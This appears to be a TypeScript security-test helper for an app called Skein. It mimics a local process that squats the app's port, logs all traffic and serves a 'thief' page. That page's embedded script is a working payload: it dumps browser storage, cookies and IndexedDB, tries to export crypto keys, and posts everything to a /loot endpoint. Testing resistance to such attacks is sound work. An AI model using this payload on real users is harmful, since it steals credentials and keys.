/**
 * Another user of the machine who takes the port while Skein is off: answers everything, notes all that is said to it,
 * and serves pages of its own at Skein's address, or Skein's own files, which anybody has.
 */
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { IncomingMessage } from 'node:http'
import { extname, join, resolve } from 'node:path'
import { WebSocketServer } from 'ws'

/** Looks into everything the browser keeps for the address, and tells. */
const thief = `<!doctype html><title>Skein</title><body>Skein<script>
const tell = (what, value) => fetch('/loot', { method: 'POST', body: what + ' ' + String(value) })
const dump = async () => {
  await tell('local', JSON.stringify({ ...localStorage }))
  await tell('session', JSON.stringify({ ...sessionStorage }))
  await tell('cookie', document.cookie + ' name ' + window.name + ' state ' + JSON.stringify(history.state))
  for (const { name } of await indexedDB.databases()) {
    const open = indexedDB.open(name)
    const database = await new Promise((done) => { open.onsuccess = () => done(open.result) })
    for (const store of database.objectStoreNames) {
      const all = database.transaction(store).objectStore(store).getAll()
      const values = await new Promise((done) => { all.onsuccess = () => done(all.result) })
      for (const value of values) {
        await tell('database', JSON.stringify(value))
        for (const key of Object.values(value).filter((one) => one instanceof CryptoKey)) {
          for (const format of ['raw', 'jwk', 'pkcs8']) {
            await crypto.subtle.exportKey(format, key)
              .then((out) => tell('key', typeof out === 'object' ? JSON.stringify(out) + new Uint8Array(out) : out))
              .catch((error) => tell('no key', error.name))
          }
        }
      }
    }
  }
  await tell('done', location.href)
}
dump()
</script>`

export interface Impostor {
  /** Everything that was said to it, in order: request lines, headers, bodies, frames. */
  readonly heard: string[]
  /** A page it has served has looked at everything. */
  readonly looted: () => boolean
  close(): Promise<void>
}

/** @param serve `own`: its own pages; `skein`: the files of Skein's page; `scripts`: a program of its own as any script */
export async function bindAsImpostor(port: number, serve: 'own' | 'skein' | 'scripts'): Promise<Impostor> {
  const heard: string[] = []
  const server = createServer((request, response) => {
    void bodyOf(request).then(async (body) => {
      heard.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`)
      const path = new URL(request.url ?? '/', 'http://127.0.0.1').pathname
      const isData = path.startsWith('/api/') || path === '/loot'
      response.setHeader('Cache-Control', 'no-store')
      if (isData) {
        response.setHeader('Content-Type', 'application/json')
        return response.end(
          JSON.stringify({ token: 'x', id: 'x', iv: 'A'.repeat(16), sealed: 'A'.repeat(90) })
        )
      }
      if (serve === 'scripts' && path.endsWith('.js')) {
        response.setHeader('Cache-Control', 'public, max-age=31536000, immutable')
        return response.setHeader('Content-Type', 'text/javascript').end('window.impostor = true; export {}')
      }
      if (serve !== 'skein') return response.setHeader('Content-Type', 'text/html').end(thief)
      const type = { '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml' }[extname(path)]
      const file = type === undefined ? 'index.html' : path
      return response.setHeader('Content-Type', type ?? 'text/html').end(await built(file))
    })
  })
  const sockets = new WebSocketServer({ server })
  sockets.on('connection', (socket, request) => {
    heard.push(`socket ${request.url}`)
    socket.on('message', (data) => {
      heard.push(`frame ${Buffer.isBuffer(data) ? data.toString('utf8') : ''}`)
      socket.send(
        JSON.stringify({
          type: 'connected',
          sessionId: /"sessionId":"([^"]+)/u.exec(heard.at(-1) ?? '')?.[1] ?? '',
          timestamp: new Date().toISOString(),
          epoch: 'e',
          seq: 0
        })
      )
    })
  })
  await new Promise<void>((done, fail) => {
    server.once('error', fail)
    server.listen(port, '127.0.0.1', done)
  })
  return {
    heard,
    looted: () => heard.some((line) => line.includes('done http')),
    close: async () => {
      for (const socket of sockets.clients) socket.terminate()
      server.closeAllConnections()
      await new Promise((done) => server.close(done))
    }
  }
}

async function built(file: string): Promise<Buffer> {
  try {
    return await readFile(join(resolve('out/renderer'), file))
  } catch {
    return Buffer.from('')
  }
}

async function bodyOf(request: IncomingMessage): Promise<string> {
  const parts: Buffer[] = []
  for await (const part of request) parts.push(Buffer.from(part))
  return Buffer.concat(parts).toString('utf8')
}
